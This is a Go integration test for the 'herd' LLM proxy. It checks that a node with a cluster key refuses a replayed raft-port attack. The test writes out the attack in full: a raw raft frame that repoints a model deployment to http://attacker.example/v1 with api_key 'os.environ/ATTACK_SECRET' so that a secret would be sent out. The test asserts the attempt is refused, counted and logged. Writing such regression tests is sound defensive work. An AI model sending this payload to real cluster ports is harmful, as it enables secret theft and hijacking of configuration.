package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/herd-proxy/herd/internal/fakeupstream"
)

// freeLoopbackPort returns a TCP port free on 127.0.0.1 a moment ago.
func freeLoopbackPort(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().(*net.TCPAddr).Port
}

// rejectedUnauthenticated reads herd_cluster_rejected_messages_total{reason="unauthenticated"}.
func rejectedUnauthenticated(t *testing.T, addr string) float64 {
	t.Helper()
	resp, err := http.Get("http://" + addr + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	m := regexp.MustCompile(`(?m)^herd_cluster_rejected_messages_total\{reason="unauthenticated"\} (\S+)$`).FindSubmatch(body)
	if m == nil {
		t.Fatalf("no unauthenticated count in /metrics")
	}
	v, _ := strconv.ParseFloat(string(m[1]), 64)
	return v
}

// TestKeyedNodeRefusesTheRaftPortAttack replays issue 11's attack against a real keyed herd:
// one TCP connection to the raft port with a forwarded apply that points a deployment at the
// attacker and asks for an environment variable. Nothing changes, and the attempt is counted
// and logged.
func TestKeyedNodeRefusesTheRaftPortAttack(t *testing.T) {
	if testing.Short() {
		t.Skip("starts processes; skipped with -short")
	}
	_, base := fakeupstream.Start(t, fakeupstream.Options{})
	path := filepath.Join(t.TempDir(), "config.yaml")
	cfg := "model_list:\n  - model_name: m\n    litellm_params:\n      model: openai/first\n      api_base: " + base + "/v1\n    model_info:\n      id: first\n" +
		"general_settings:\n  master_key: sk-admin\ncluster_settings:\n  cluster_key: MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY=\n"
	if err := os.WriteFile(path, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	raftAddr := fmt.Sprintf("127.0.0.1:%d", freeLoopbackPort(t))
	n := startProcessEnv(t, "keyed", []string{"ATTACK_SECRET=s3cret"}, "--config", path, "--host", "127.0.0.1", "--port", "0",
		"--gossip-addr", "127.0.0.1:0", "--raft-addr", raftAddr, "--node-name", "keyed")
	waitConfigVersion(t, n.addr, 1)

	cmd := `{"expect":1,"next":{"model_list":[{"model_name":"m","litellm_params":{"model":"openai/x","api_base":"http://attacker.example/v1","api_key":"os.environ/ATTACK_SECRET"},"model_info":{"id":"evil"}}]}}`
	frame := []byte{'F', 1, 0, 0, 0x13, 0x88, 0, 0, 0, 0}
	binary.BigEndian.PutUint32(frame[6:], uint32(len(cmd)))
	frame = append(frame, cmd...)
	c, err := net.Dial("tcp", raftAddr)
	if err != nil {
		t.Fatal(err)
	}
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	_, _ = c.Write(frame)
	reply, _ := io.ReadAll(c)
	_ = c.Close()
	if len(reply) > 0 && reply[0] != 0x15 { // at most a TLS alert
		t.Errorf("the raft port answered %x", reply)
	}

	deadline := time.Now().Add(10 * time.Second)
	for rejectedUnauthenticated(t, n.addr) < 1 || !n.logged("raft port: refused a connection") {
		if time.Now().After(deadline) {
			t.Fatal("the attempt was neither counted nor logged")
		}
		time.Sleep(50 * time.Millisecond) // poll interval
	}
	// A change through the front door commits after the attempt; the attacker's never did.
	if code, body := adminPost(t, n.addr, "/model/new", fmt.Sprintf(`{"model_name":"m","litellm_params":{"model":"openai/second","api_base":%q},"model_info":{"id":"second"}}`, base+"/v1")); code != 200 {
		t.Fatalf("/model/new: %d %s", code, body)
	}
	waitConfigVersion(t, n.addr, 2)
	if ids := modelIDs(t, n.addr); !slices.Equal(ids, []string{"first", "second"}) {
		t.Fatalf("deployments %v, want [first second]", ids)
	}
	if n.logged("s3cret") {
		t.Error("the secret reached the log")
	}
}

// waitConfigVersion polls /cluster/status until the node serves config version v.
func waitConfigVersion(t *testing.T, addr string, v float64) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		st := rawClusterStatus(t, addr)
		if st["served_config_version"] == v {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s: config version %v not served: %v", addr, v, strings.TrimSpace(fmt.Sprint(st)))
		}
		time.Sleep(50 * time.Millisecond) // poll interval
	}
}
